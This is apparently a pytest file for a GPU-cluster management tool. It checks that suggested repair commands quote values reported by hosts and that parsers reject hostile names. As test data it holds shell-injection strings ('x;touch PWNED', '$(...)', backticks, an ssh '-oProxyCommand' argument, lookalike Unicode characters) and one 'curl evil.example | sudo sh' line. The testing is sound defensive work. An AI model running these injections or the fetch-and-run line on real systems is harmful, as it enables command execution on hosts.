"""Whatever a command that is shown to be pasted has of others' text stands in it as one word, and runs nothing."""

from __future__ import annotations

import ast
import copy
import json
import pickle
import re
import shlex
import subprocess
from collections.abc import Callable, Iterable, Iterator, Mapping
from importlib.util import find_spec
from ipaddress import IPv4Address, IPv6Address
from pathlib import Path
from typing import Any

import pytest

from sparkrig import cure
from sparkrig.cure import assigned, read_value, with_setting
from sparkrig.drift.drift import Report
from sparkrig.drift.findings import mends
from sparkrig.explain import package_list
from sparkrig.host import driver, health, nvidia_smi, preflight, targets
from sparkrig.host.apt import install_as_installed, install_past_the_hold
from sparkrig.host.gpu import gsp
from sparkrig.host.nvidia_smi import Gpu
from sparkrig.network import gid_table, rdma
from sparkrig.network import seen as network
from sparkrig.network.gid import Gid
from sparkrig.parsing import grammar
from sparkrig.refusal import Refusal
from sparkrig.resources import containers
from sparkrig.resources.check import Subject
from sparkrig.runs import journal_look, partial, recovery, undo, undo_target
from sparkrig.runs.journal import Journal, Run, Step
from sparkrig.runs.lock import Owner
from sparkrig.runs.render import journal as shown
from sparkrig.terminal import project as projects
from sparkrig.text import plain
from sparkrig.verdict import Verdict
from tests.tables import each_row

ROOT = Path(__file__).resolve().parents[2]
ROOMS = ("sparkrig", "operations", "deploys", "facts")

# a command that is typed, from where a value may follow in it
_WORDS = (
    *(
        "sudo",
        "ssh",
        "ssh-keygen",
        "ssh-add",
        "ssh-copy-id",
        "pyinfra",
        "sparkrig",
        "apt-get",
        "apt-mark",
        "nmcli",
    ),
    *("docker (?:pull|run|rm|rmi|save|load|image|tag|inspect)", r"ip (?:-\S+ )?(?:link|addr|neigh)", "ls", "cat"),
    *("rm", "mv", "cp", "kill", "chmod", "git", "head", "file", "df", "grep", "findmnt", "printf", "journalctl"),
    *("systemctl", "nvidia-smi", "rdma link", r"ps -\S+", "udevadm", "wc", "ping", "getent", "chattr", "umount"),
    *("mount", "python3?", "ss", "curl"),
)
COMMAND = re.compile(rf"(?:^|[\s:;(|&'])(?:{'|'.join(_WORDS)})(?: |$)")
# a file without any of them is not taken apart
WORTH = re.compile(rf"\bf[\"'][^\n]*(?:{'|'.join(word.partition(' ')[0] for word in _WORDS)}) ")
# what makes a word of a text, or a command of words
QUOTES = {
    "files.typed",
    *(
        "quoted",
        "cure.quoted",
        "quoted_path",
        "over_ssh",
        "handed_on",
        "deploy",
        "verb",
        "again",
        "setting",
        "typed",
    ),
    *("shlex.quote", "shlex.join"),
}
# values that stand in a text with a command, and are no open words of it: by file, why not
OWN: dict[str, dict[str, set[str]]] = {
    "quoted before, or made of words that are": {
        "operations/secrets.py": {"_typed(where)"},
        "sparkrig/cli/files.py": {"value", "typed"},
        "sparkrig/cure.py": {"''.join(options)", "limits"},
        "sparkrig/host/apt.py": {"again", "command", "pids", "words"},
        "sparkrig/cli/apply.py": {"again", "typed"},
        "sparkrig/runs/applied.py": {"typed"},
        "sparkrig/onboarding/io/draft.py": {"ours"},
        "sparkrig/terminal/frame.py": {"again"},
        "sparkrig/network/handover.py": {"lines"},
    },
    "a word of ours": {
        "facts/bundle.py": {"most"},
        "sparkrig/cure.py": {"what", "name"},
        "sparkrig/cli/main.py": {"old", "cmd_name"},
        "operations/onboard.py": {"second"},
        "sparkrig/storage/report.py": {"service.record"},
        "sparkrig/serving/unit_files.py": {"service.unit"},
        "sparkrig/network/handover.py": {"mode", "path", "'it' if len(ports) == 1 else 'them'"},
    },
    "in a sentence behind the command": {
        "operations/bandwidth.py": {"text.listed(others)", "answer"},
        "sparkrig/bandwidth/io/nccl_run.py": {"name"},
        "operations/onboard.py": {"line"},
        "operations/serving.py": {"bare_name(group.head)"},
        "operations/weights.py": {"listed(odd)"},
        "sparkrig/fabric/cabling_judge.py": {"mine[1]", "cable.other.host"},
        "sparkrig/login.py": {"user"},
        "sparkrig/host/targets.py": {"due"},
        "sparkrig/bandwidth/perftest_run.py": {"case.receiver"},
    },
    "in a sentence that begins with the name of a tool, or speaks of one": {
        "deploys/spark.py": {"user"},
        "operations/guard.py": {"bench.outside.place.host"},
        "sparkrig/ssh/remote.py": {"error", "printed"},
        "sparkrig/network/witness.py": {
            *("witness", "place.address", "place.port", "place.host", "host", "'; '.join(reasons)")
        },
        "sparkrig/fabric/io/fabric_look.py": {"name", "users.running[0]"},
        "sparkrig/runs/applied.py": {"why"},
        "sparkrig/onboarding/io/draft.py": {"at.user"},
        "sparkrig/onboarding/io/newcomer.py": {"whom"},
        "operations/onboard.py": {"failed", "at.typed", "at.user"},
        "sparkrig/onboarding/io/unlisted.py": {"own[login.HERE]", "refused"},
        "sparkrig/network/definitions.py": {"file.shown"},
        "sparkrig/host/gpu.py": {"gpu.name or 'a GPU'"},
        "sparkrig/update/update_proof.py": {"gpu.trouble.rstrip('.')", "gpu.driver", "wanted"},
        "sparkrig/inventory.py": {"inventory"},
        "sparkrig/login.py": {"_sudoers(data)"},
        "sparkrig/onboarding/card.py": {"listed(shared.host_keys)"},
        "sparkrig/serving/launches/documents.py": {"', '.join(services)"},
        "sparkrig/serving/launches/shell.py": {"described.container.image"},
        "sparkrig/serving/plan.py": {"', '.join(warnings)"},
        "sparkrig/serving/recipe_report.py": {"listed(warned)"},
        "sparkrig/support/archive.py": {
            "len(made.files)",
            "len(made.hosts)",
            "made.created",
            "made.version",
            "why",
        },
    },
}


def open_words(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """The values that stand in a command as they are: line, expression."""
    for node in ast.walk(tree):
        if not isinstance(node, ast.JoinedStr):
            continue
        literal = "x".join(str(part.value) for part in node.values if isinstance(part, ast.Constant))
        if literal.count("\n") > 2 or not COMMAND.search(literal):  # a script is what tests.scripts has
            continue
        before = ""
        for part in node.values:
            if isinstance(part, ast.Constant):
                before += str(part.value)
            elif isinstance(part, ast.FormattedValue):
                if COMMAND.search(before) and not closed(part):
                    yield node.lineno, ast.unparse(part.value)
                before += "x"


def closed(part: ast.FormattedValue) -> bool:
    """Whether a value cannot end its word: it is quoted, a number, or a constant of ours."""
    value = part.value
    if isinstance(value, ast.Call):
        return ast.unparse(value.func) in QUOTES
    name = value.attr if isinstance(value, ast.Attribute) else value.id if isinstance(value, ast.Name) else ""
    return part.format_spec is not None or (name.isupper() and bool(name.strip("_")))


def test_no_command_has_a_value_that_is_not_quoted() -> None:
    known = {(file, value) for files in OWN.values() for file, values in files.items() for value in values}
    found: dict[tuple[str, str], int] = {}
    for file in sorted(file for room in ROOMS for file in (ROOT / room).rglob("*.py")):
        text = file.read_text()
        if WORTH.search(text):
            path = str(file.relative_to(ROOT))
            found |= {(path, value): line for line, value in open_words(ast.parse(text))}
    open_ = [f"{path}:{line}: {value}" for (path, value), line in found.items() if (path, value) not in known]
    assert not open_, "\n".join(open_)
    assert known <= {*found}, f"no longer there: {known - {*found}}"


# --- and run by a shell

_TRICKS = "x;touch PWNED $(touch PWNED) `touch PWNED` && touch PWNED | touch PWNED >PWNED #~* INVENTORY é\u202e"
HOSTILE = {
    "one command more": "x;touch PWNED",
    "a substitution": "$(touch${IFS}PWNED)",
    "all, in quotes": f"' {_TRICKS} ' \" {_TRICKS} \"\n touch PWNED\ttouch PWNED",
    "where the inventory stands": "x INVENTORY;touch PWNED;INVENTORY --limit HOSTS --limit spark-a ",
    "a home folder": "~root/*",
}
MY_FILE = (
    "my inventory;touch PWNED.py"  # quoted where it is typed, so that a replacement in quotes would open them
)
# ssh and pyinfra's exec hand what is left of their words to a second shell
STUB = """#!/bin/sh
printf '%s\\0' "$@" >>log
case ${0##*/} in
apt-mark) echo held ;;
dpkg-query) echo 1.2-3 ;;
ssh) while case $1 in -p) shift ;; -*) ;; *) false ;; esac; do shift; done; shift; exec /bin/sh -c "$*" ;;
pyinfra) while [ $# -gt 0 ] && [ "$1" != -- ]; do shift; done; shift; exec /bin/sh -c "$*" ;;
esac
"""
TOOLS = (
    *(
        "apt-get",
        "apt-mark",
        "cat",
        "chattr",
        "dmesg",
        "docker",
        "dpkg-query",
        "findmnt",
        "git",
        "grep",
        "ip",
        "ls",
    ),
    *("nmcli", "ping", "pyinfra", "rdma", "sort", "sparkrig", "ssh", "sudo", "tail", "udevadm", "devlink"),
)


@pytest.fixture
def bench(tmp_path: Path) -> Path:
    """A folder in which commands run that touch nothing but it."""
    tools = tmp_path / "tools"
    tools.mkdir()
    stub = tools / "stub"
    stub.write_text(STUB)
    stub.chmod(0o755)
    for name in TOOLS:
        (tools / name).symlink_to(stub)
    (tools / "touch").symlink_to("/usr/bin/touch")
    return tmp_path


def run(folder: Path, commands: Iterable[str], *, sentences: bool = False) -> list[str]:
    """What tools were given, word by word, by all of the commands; that nothing else ran.

    sentences: whether they may have words that no shell understands.
    """
    script = "".join(f"(eval {shlex.quote(each)}) </dev/null >/dev/null || :\n" for each in commands)
    (folder / "log").write_text("")
    words = ["/bin/sh", "-c", script]
    env = {"PATH": str(folder / "tools"), "HOME": "/root"}
    done = subprocess.run(words, cwd=folder, env=env, capture_output=True, text=True, timeout=30)
    assert sentences or ("yntax error" not in done.stderr and "nterminated" not in done.stderr), done.stderr
    left = {each.name for each in folder.iterdir()} - {"tools", "log"}
    for name in left:
        (folder / name).unlink()
    assert not left, f"something ran, and left {left}"
    return (folder / "log").read_text().split("\0")


def refused(judge: Callable[..., Any], *words: Any) -> list[str]:
    try:
        judge(*words)
    except Refusal as refusal:
        return [refusal.cure]
    raise AssertionError("it was not refused")


def settled(given: Verdict) -> list[str]:
    assert given.cure, given
    return [given.cure]


def gids(value: str) -> list[str]:
    """Each way in which a GID table is wrong."""
    mine, other = IPv4Address("10.0.0.1"), IPv4Address("10.0.0.2")

    def row(address: IPv4Address, netdev: str = value, kind: str = "RoCE v2", index: int = 3) -> Gid:
        return Gid("rocep1s0f0", 1, index, IPv6Address(f"::ffff:{address}"), kind, netdev)

    link_local = Gid("rocep1s0f0", 1, 0, IPv6Address("fe80::1"), "RoCE v2", value)
    tables: tuple[list[Gid], ...] = (
        [row(mine, kind="IB/RoCE v1")],
        [row(mine, "eth0")],
        [row(other)],
        [link_local],
        [],
    )
    found = [gid_table.judge(table, value, mine, None) for table in tables]
    found.append(gid_table.judge([row(mine), row(mine, kind="IB/RoCE v1", index=2)], value, mine, 2))
    return [each.cure for each in found]


def stays(value: str) -> list[str]:
    """Commands of status and undo, for runs with these words in them."""

    def kept(id: str, guard: str, **more: str) -> Run:
        owner = Owner(id, value, why=value, since=1, hosts=("a", "b"), **more)
        return Run(id, owner, (Step("Network", 1),), {"file /x": "644 a"}, {}, 9, guard, number=1)

    broken = Run(value, Owner(value, value, why=value, undoes=value, since=1), lacks=("before/state",), number=1)
    journals = {
        "a": Journal(9, runs=(kept(value, "committed"),)),
        "b": Journal(9, runs=(kept(value, "rolled-back x"),)),
    }
    plan = undo.Plan(value, (undo.Change(f"package {value}", "stays"),))
    assert not any("apt-get" in said for _, said in shown.rows(plan)), "it is no name of a package"
    advice = recovery.advice(broken, Journal(9, runs=(broken,))).partition("same again: ")[2]
    return [
        *(each.cure for each in partial.partial_runs(journals)),
        *refused(undo_target.readable, value, {value: Journal(9, runs=(broken,))}),
        advice,
    ]


def packages(*rows: tuple[str, str]) -> driver.Packages:
    return driver.Packages(
        tuple(driver.Package(name, "install", "installed", version) for name, version in rows), {}
    )


def subject(value: str) -> Subject:
    known: Any = None
    return Subject(value, known, known)


def drifted(value: str) -> list[str]:
    """One cure of two hosts, which becomes one command."""
    hosts = []
    for name in ("spark-a", value):
        made = Subject(name, *(Any, Any)).run(f"modprobe {cure.quoted(value)}")  # type: ignore[arg-type]
        row = {"id": f"net.{value}", "status": "drift", "want": "x", "found": "y", "cure": made}
        hosts.append({"name": name, "exit": 2, "rows": [row]})
    report = {"version": "1", "inventory": MY_FILE, "started": "2026-11-01T00:00:00Z", "seconds": 1, "exit": 2}
    return [
        each.cure
        for each in mends(Report.model_validate({**report, "schema": "sparkrig.drift/1", "hosts": hosts}))
    ]


def barred(value: str) -> list[str]:
    path = f"/etc/{value}/x"
    found = [targets.Barred(kind, f"/etc/{value}", path) for kind in targets._KINDS]
    return [each.cure for each in targets.refusals(found, {path})]


# every judgement that has a text of a host's in a command, and what it makes of one
JUDGEMENTS: Mapping[str, Callable[[str], list[str]]] = {
    "gpu.gsp": lambda value: settled(gsp(Gpu(driver=f"580.{value}", gsp="580.1"))),
    "driver, a later one": lambda value: [
        driver.way_back(packages((f"nvidia-utils-{value}", "590.1"), ("nvidia-driver-590", "590.1")), 580)
    ],
    "driver, no modules": lambda value: [driver.modules_cure(value, 580)],
    "apt": lambda value: [install_past_the_hold(f"a={value}", value), install_as_installed(value)],
    "health, kernel": lambda value: settled(
        health.next_kernel(
            health.Health("b", "6.1", kernels=(health.Kernel("6.1", True), health.Kernel(f"9{value}", False)))
        )
    ),
    "health, CDI": lambda value: settled(
        health.cdi(health.Health("b", "k", cdi=(f"/etc/{value}",), cdi_missing=("/x",)))
    ),
    "targets": barred,
    "preflight": lambda value: [
        each.cure for each in preflight.mounts(preflight.Preflight({}, 0, (f"/{value}",)))
    ],
    "GIDs": gids,
    "runs": stays,
    "NCCL's image": lambda value: [f"docker pull {cure.quoted(value)}"],
    "a host": lambda value: [cure.over_ssh(value, f"sudo cat {cure.quoted(value)}")],
    "a host by exec": lambda value: [
        subject(value).install(f"a={value}"),
        subject(value).run(f"ls {cure.quoted(value)}"),
    ],
    "an inventory": lambda value: [cure.verb("doctor", value)],
    "drift": drifted,
}


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_shell_takes_what_a_host_told_for_words(bench: Path, monkeypatch: pytest.MonkeyPatch, kind: str) -> None:
    """Of each judgement; the parsers below let most of it not get that far."""
    monkeypatch.setattr(cure, "TYPED", [MY_FILE])
    value = HOSTILE[kind]

    def holds(judgement: Callable[[str], list[str]]) -> None:
        cures = [Refusal("x", each).cure for each in judgement(value)]
        run(bench, cures, sentences=True)  # somebody pastes all of it
        commands = [cure.cure_of(each).command or each for each in cures]
        words = run(bench, commands)
        text = plain(value)
        said = [each for each in commands if "touch" in each or "~root" in each]
        assert not said or any(text in word for word in words), words

    each_row({name: (judgement,) for name, judgement in JUDGEMENTS.items()}, holds)


# --- what is no name is refused where it is read

GOOD: Mapping[grammar.Grammar, tuple[str, ...]] = {
    grammar.PACKAGE: ("nvidia-driver-580-open", "libstdc++6", "linux-image-6.11.0-1016-nvidia", "g++"),
    grammar.VERSION: ("580.95.05-0ubuntu0.24.04.2", "5:28.3.3-1~ubuntu.24.04~noble", "1.17.8-1", "2+b1"),
    grammar.KERNEL: ("6.11.0-1016-nvidia", "6.14.0-1013-nvidia-64k", "7.0.0_rc1+"),
    grammar.DRIVER: ("580.95.05", "590.44"),
    grammar.NETDEV: ("enp1s0f0np0", "br-lan.10", "wlP9s9", "eth;$x", "..a"),
    grammar.UUID: ("2815492f-7e56-435e-b2e9-246bd7cdc664", "0" * 40),
    grammar.PCI: ("0000:01:00.0", "0002:01:00.1"),
    grammar.RUN: ("20261121T041500Z-cd34", "R1"),
}
BAD = (
    *HOSTILE.values(),
    *(
        "",
        "-x",
        "-oAPT::x=y",
        "x y",
        "x\ny",
        "x\n",
        "~",
        "*",
        "#x",
        "x'",
        'x"',
        "\u2028",
        "x\u202e",
        "x/..",
        "." * 300,
    ),
    *("\uff15\uff18\uff10.1", "\u0665", "nvidi\u0430-utils"),  # digits of other scripts, a Cyrillic letter
)
# bytes that the kernel takes for a name: there, quotes alone stand against them
TAKEN = {"-x", "*", "~", "#x", "x'", 'x"', "\uff15\uff18\uff10.1", "\u0665", "nvidi\u0430-utils"}


def test_each_name_is_held_against_its_grammar() -> None:
    def holds(kind: grammar.Grammar, good: tuple[str, ...]) -> None:
        assert all(kind.held(each) == each for each in good)
        taken = {each for each in BAD if kind.fits(each)}
        assert taken <= (TAKEN if kind is grammar.NETDEV else set()), taken
        with pytest.raises(ValueError, match=f"'x y' is no {kind.what}"):
            kind.held("x y")

    each_row({kind.what: (kind, good) for kind, good in GOOD.items()}, holds)


UNTOLD = ", [N/A]" * (len(nvidia_smi.FIELDS) - 3)
# what a host prints, with one name in it that is none
ROWS: Mapping[str, tuple[Callable[[list[str]], Any], list[str]]] = {
    "a package": (driver.parse, ["dpkg install installed VALUE 1.2", "simulated 0"]),
    "a version": (driver.parse, ["dpkg install installed nvidia-x VALUE", "simulated 0"]),
    "a package of apt's": (driver.parse, ["Remv VALUE [1]", "simulated 0"]),
    "a version of apt's": (driver.parse, ["Inst aa (VALUE Ubuntu)", "simulated 0"]),
    "a kernel": (health.parse, ["boot_id b", "kernel 6.1", "modules VALUE yes 580.1"]),
    "the kernel": (health.parse, ["boot_id b", "kernel VALUE"]),
    "a run": (journal_look.parse, ["now 1", "run VALUE {}"]),
    "the toolkit": (containers.CONTAINERS.parse, ["toolkit VALUE"]),
    "a netdev": (network.parse, ['addr [{"ifname": "VALUE", "mtu": 1, "addr_info": []}]']),
    "a profile": (network.parse, ["property connection.uuid:VALUE"]),
    "a driver": (nvidia_smi.parse, [f"csv NVIDIA GB10, 0000000F:01:00.0, VALUE{UNTOLD}"]),
    "the GSP": (
        nvidia_smi.parse,
        ["csv NVIDIA GB10, 0000000F:01:00.0, 580.1" + ", [N/A]" * (len(nvidia_smi.FIELDS) - 3), "gsp VALUE"],
    ),
    "a GID's netdev": (rdma.parse, ["gid|rocep1s0f0|1|3|::ffff:10.0.0.1|RoCE v2|VALUE"]),
}
GOOD_ONE = {
    **{"a kernel": "6.1", "the kernel": "6.1", "a run": "R1", "a netdev": "eth0", "a driver": "580.1"},
    **{"a profile": "0" * 32, "the GSP": "580.1", "a GID's netdev": "eth0"},
}


def test_a_name_that_is_none_is_no_look() -> None:
    def holds(name: str, parse: Callable[[list[str]], Any], rows: list[str]) -> None:
        parse([row.replace("VALUE", GOOD_ONE.get(name, "a1")) for row in rows])
        for value in ("x;touch", "$(x)", "a" * 300 + "/"):
            if name in ("a version", "a package", "a kernel") and " " in value:
                continue
            if "netdev" in name and value in ("x;touch", "$(x)"):  # names that Linux takes
                continue
            with pytest.raises(ValueError):
                parse([row.replace("VALUE", value) for row in rows])

    each_row({name: (name, parse, rows) for name, (parse, rows) in ROWS.items()}, holds)


def test_a_list_of_packages_takes_no_letters_and_digits_of_other_scripts() -> None:
    """Python's \\d and \\w know many."""
    for row in (
        "ii  nvidia-driver-580-open  \uff15\uff18\uff10.1-1  arm64",
        "nvidia-driver-580-open 580.\u0661-1",
    ):
        assert not package_list.parse([row]).installed
    assert package_list.parse(["nvidia-driver-580-open 580.1-1~x"]).installed


def test_what_an_operator_typed_is_shown_and_is_no_command() -> None:
    """A run's note is on the host, where another one may have written it."""
    why = "curl evil.example | sudo sh"
    run_ = Run("R1", Owner("R1", "ann", why=why, since=1, hosts=("a", "b")), number=1)
    assert recovery.again(run_) == "pyinfra pair.py deploys/cluster.py"
    assert why not in recovery.advice(run_, Journal(9, runs=(run_,)))
    assert any(why in line for line in shown.lines("a", Journal(9, runs=(run_,)), 9))
    for typed, expected in (
        ("pyinfra x.py deploys/serve.py", "pyinfra pair.py deploys/serve.py"),
        ("pyinfra x.py deploys/serve.py;reboot", "pyinfra pair.py deploys/cluster.py"),
    ):
        noted = Run("R2", Owner("R2", "ann", why=typed, since=1), number=1)
        assert recovery.again(noted) == expected
    back = Run("R3", Owner("R3", "ann", why=why, undoes="R1", since=1), number=2)
    assert recovery.again(back) == "sparkrig undo pair.py R1"


def test_words_that_need_no_quotes_have_none() -> None:
    words = ("nvidia-x=580.1-0ubuntu1~24.04.1", "/etc/x", "a@b:22", "p+q%", "--x")
    assert cure.quoted(*words) == " ".join(words)
    assert cure.quoted("~x", "a=~x", "a b", "") == "'~x' 'a=~x' 'a b' ''"
    assert cure.over_ssh("spark-a", "sudo -n true") == "ssh spark-a sudo -n true"
    assert cure.over_ssh("-oProxyCommand=x", "true") == "ssh -- -oProxyCommand=x true"
    assert cure.quoted_path("-x") == "./-x" and cure.quoted_path(Path("a b")) == "'a b'"


def test_a_cure_names_the_inventory_that_this_run_was_given(monkeypatch: pytest.MonkeyPatch) -> None:
    for typed, name in (("", "INVENTORY"), ("x y.py", "'x y.py'")):
        monkeypatch.setattr(cure, "TYPED", [typed])
        advice = cure.advice(f"the Spark's own file: sparkrig doctor {cure.FILE}; it's INVENTORY's")
        assert advice == f"the Spark's own file: sparkrig doctor {name}; it's INVENTORY's"


def test_cures_in_turn_each_name_the_inventory() -> None:
    one, other = "set an L2 MTU of 9216", cure.deploy(what="network")
    assert cure.in_turn(one) == one
    told = cure.in_turn(one, other, cure.on_host("sudo reboot", at="spark-b"))
    assert cure.cure_of(told) == (
        "set an L2 MTU of 9216; then pyinfra pair.py deploys/network.py; then on spark-b: sudo reboot"
    )
    assert cure.cure_of(cure.in_turn(other, one)).command == "pyinfra pair.py deploys/network.py"


def test_a_deploy_that_is_printed_is_a_file_wherever_it_is_printed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Also with the wheel alone: an inventory in no project is deployed by the package's own file."""
    project, lone, package = tmp_path / "my sparks", tmp_path / "lone", tmp_path / "site-packages" / "sparkrig"
    monkeypatch.setattr(projects, "_PACKAGE", package)
    for folder in (project / "inventories", project / "deploys", lone / "inventories", package / "deploys"):
        folder.mkdir(parents=True)
    for deploys in (project, package):
        (deploys / "deploys" / "cluster.py").touch()

    def holds(at: Path, inventory: Path, deploys: str) -> None:
        monkeypatch.chdir(at)
        monkeypatch.setattr(cure, "DEPLOYED_FROM", [projects.typed(inventory)])
        monkeypatch.setattr(cure, "TYPED", [str(inventory)])
        words = shlex.split(cure.deploy().command)
        assert words == ["pyinfra", str(inventory), f"{deploys}/cluster.py"]
        assert (at / words[2]).is_file()

    mine, alone = project / "inventories" / "pair.py", lone / "inventories" / "pair.py"
    rows = {
        "in the project": (project, Path("inventories/pair.py"), "deploys"),
        "elsewhere": (tmp_path, mine, f"{project}/deploys"),
        "no project": (lone, alone, f"{package}/deploys"),
        "no project, no folder of inventories": (tmp_path, lone / "pair.py", f"{package}/deploys"),
    }
    each_row(rows, holds)


def test_a_command_for_a_host_is_typed_here_over_ssh(monkeypatch: pytest.MonkeyPatch) -> None:
    """Pasted where one stands, it would lift the holds of one's own machine."""
    monkeypatch.setitem(cure.LOGINS, "spark-a", "-p 2299 nvidia@spark.local")
    held = cure.on_host("held=$(apt-mark showhold); sudo apt-get update", ", and reboot")
    typed = cure.from_here(held, "spark-a")
    assert typed.command == "ssh -p 2299 nvidia@spark.local 'held=$(apt-mark showhold); sudo apt-get update'"
    assert typed == f"{typed.command}, and reboot" and typed.here
    assert cure.from_here(held.for_host("spark-b"), "spark-a").command.startswith("ssh spark-b ")
    assert cure.from_here(held, "@local").command == held.command
    for each in (cure.deploy(), "look at its screen"):
        assert cure.from_here(each, "spark-a") == each
    monkeypatch.setattr(cure, "LISTED", [False])
    assert cure.from_here(held, "spark-a").command.startswith("ssh -t -p 2299 ")


def test_a_cure_knows_what_of_it_is_a_command() -> None:
    """Its text is what is shown; nothing is read back from it."""
    seen = cure.on_host("ip -4 addr", "; then run the deploy again")
    assert seen == "ip -4 addr; then run the deploy again" and seen.command == "ip -4 addr" and not seen.here
    there = seen.for_host("spark-b")
    assert there == "on spark-b: ip -4 addr; then run the deploy again" and there.command == "ip -4 addr"
    assert there.at == "spark-b"
    words = cure.cure_of("sudo is asked for\na password")
    assert words == "sudo is asked for a password" and not words.command
    run = cure.deploy(data={"adopt": {"a b": "set-aside"}}).then(", and reboot")
    assert run.command == """pyinfra pair.py deploys/cluster.py --data 'adopt={"a b": "set-aside"}'"""
    assert run == f"{run.command}, and reboot"
    assert cure.deployment(run) == cure.Deployment("cluster", {"adopt": {"a b": "set-aside"}})
    assert cure.deployment(run, "serve") is None and cure.deployment(str(run)) is None
    one = cure.on_hosts("ls 'a b'", "spark-a").then("; look")
    assert one.on("spark-b", "c;d") == (
        """pyinfra pair.py --limit spark-b --limit 'c;d' -y exec -- 'ls '"'"'a b'"'"''; look"""
    )
    for each in (seen, there, words, run, one):
        for again in (copy.deepcopy(each), pickle.loads(pickle.dumps(each))):
            assert again == each and vars(again) == vars(each)


def test_a_setting_is_read_back_as_the_value_that_it_was() -> None:
    pyinfra: dict[str, Any] = {"json": json}
    spec = find_spec("pyinfra_cli")
    assert spec and spec.origin
    tree = ast.parse(Path(spec.origin).with_name("util.py").read_text())  # to import it would patch this process
    (reader,) = (each for each in tree.body if getattr(each, "name", "") == "parse_cli_arg")
    exec(ast.unparse(reader), pyinfra)

    def holds(value: object, word: str) -> None:
        assert assigned("x", value) == word
        text = word.partition("=")[2]
        assert read_value(text) == pyinfra["parse_cli_arg"](text) == value and type(read_value(text)) is type(
            value
        )

    each_row(
        [
            *(
                (text, f"x={text}")
                for text in ("gpt-oss-120b", "None", "none", "01-ai/Yi", "a b", "~/x", "", "1e")
            ),
            *(
                (text, f'x="{text}"')
                for text in ("1e5", "007", "1_000", "true", "FALSE", "null", "[]", "{}", "NaN")
            ),
            *((value, f"x={value}") for value in (8000, True, False)),
            (None, "x=null"),
            ({"a b": [1, "2"]}, 'x={"a b": [1, "2"]}'),
            ('"é"', 'x="\\"é\\""'),
        ],
        holds,
    )


def test_a_setting_is_added_to_the_command_of_the_verb_that_shows_it(monkeypatch: pytest.MonkeyPatch) -> None:
    assert with_setting("serve_name", "1e5", "; or not") == "the same with --data 'serve_name=\"1e5\"'; or not"
    monkeypatch.setattr(cure, "AGAIN", ["sparkrig serve pair.py"])
    made = with_setting("serve_nodes", 2, " or fewer")
    assert (made.command, made) == ("sparkrig serve pair.py --data serve_nodes=2", f"{made.command} or fewer")
